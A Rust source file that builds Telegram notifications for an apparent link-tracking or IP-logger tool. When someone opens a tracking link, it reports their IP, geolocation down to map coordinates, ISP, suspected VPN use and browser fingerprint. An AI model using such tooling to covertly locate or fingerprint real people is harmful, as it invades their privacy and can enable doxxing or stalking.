//! Human-readable visit summary for the notification channel
//!
//! The message uses Telegram's legacy Markdown. Every line is always present;
//! a missing value renders as [`PLACEHOLDER`] so the shape never changes.

use std::fmt::Write;

use crate::models::{VisitRecord, VisitSource};

pub const PLACEHOLDER: &str = "N/A";

/// Build the notification text for a visit
pub fn format_summary(visit: &VisitRecord, link_prefix: &str) -> String {
    let id = visit.id.clone().unwrap_or_default();
    let geo = &visit.geo;
    let mut out = String::new();

    let heading = match visit.source {
        VisitSource::Redirect => "🔗 *Link Opened!*",
        VisitSource::Beacon => "📍 *Deep Tracking Triggered!*",
    };

    let duration = visit.duration_ms.map(|ms| format!("{ms}ms"));

    // Writing into a String cannot fail
    let _ = writeln!(out, "{heading}");
    let _ = writeln!(out, "ID: {}", code(visit.id.clone()));
    let _ = writeln!(out, "Source URL: `{link_prefix}/track/{}`", sanitize(&id));
    let _ = writeln!(out, "Duration: {}", code(duration));
    let _ = writeln!(out, "Clicks/Moves: `{}`", visit.event_count());
    if visit.vpn_suspected {
        let _ = writeln!(out, "⚡ *Possible VPN/Relay Detected!*");
    }

    let _ = writeln!(out);
    let _ = writeln!(out, "IP: {}", code(Some(visit.client_ip.clone())));
    let _ = writeln!(
        out,
        "Location: {}, {} ({})",
        plain(geo.city()),
        plain(geo.country()),
        plain(geo.country_code())
    );
    let _ = writeln!(out, "ISP: {}", plain(geo.isp()));
    let _ = writeln!(out, "Region: {}", plain(geo.region()));
    let _ = writeln!(out, "Org: {}", plain(geo.org()));
    let _ = writeln!(out, "ZIP: {}", plain(geo.zip()));
    let _ = writeln!(out, "Coords: {}", map_link(visit));

    let user_agent = visit
        .fingerprint_text("userAgent")
        .or_else(|| visit.user_agent.clone());

    let _ = writeln!(out);
    let _ = writeln!(out, "🧠 *Fingerprint Info:*");
    let _ = writeln!(out, "User-Agent: {}", code(user_agent));
    let _ = writeln!(out, "Platform: {}", code(visit.fingerprint_text("platform")));
    let _ = writeln!(out, "Lang: {}", code(visit.fingerprint_text("language")));
    let _ = writeln!(out, "Screen: {}", code(visit.fingerprint_text("screen")));
    let _ = writeln!(out, "Touch: {}", code(visit.fingerprint_text("touchSupport")));
    let _ = writeln!(out, "DNT: {}", code(visit.fingerprint_text("dnt")));
    let _ = write!(out, "Timezone: {}", code(visit.fingerprint_text("timezone")));

    out
}

/// Maps link when both coordinates are numeric
fn map_link(visit: &VisitRecord) -> String {
    match (visit.geo.latitude(), visit.geo.longitude()) {
        (Some(lat), Some(lon)) => format!("https://www.google.com/maps?q={lat},{lon}"),
        _ => PLACEHOLDER.to_string(),
    }
}

fn plain(value: Option<String>) -> String {
    value
        .map(|v| sanitize(&v))
        .unwrap_or_else(|| PLACEHOLDER.to_string())
}

fn code(value: Option<String>) -> String {
    format!("`{}`", plain(value))
}

/// Client-controlled text must not open or close Markdown entities
fn sanitize(value: &str) -> String {
    value
        .chars()
        .map(|c| match c {
            '`' => '\'',
            '*' | '_' | '[' => ' ',
            c if c.is_control() => ' ',
            c => c,
        })
        .collect()
}
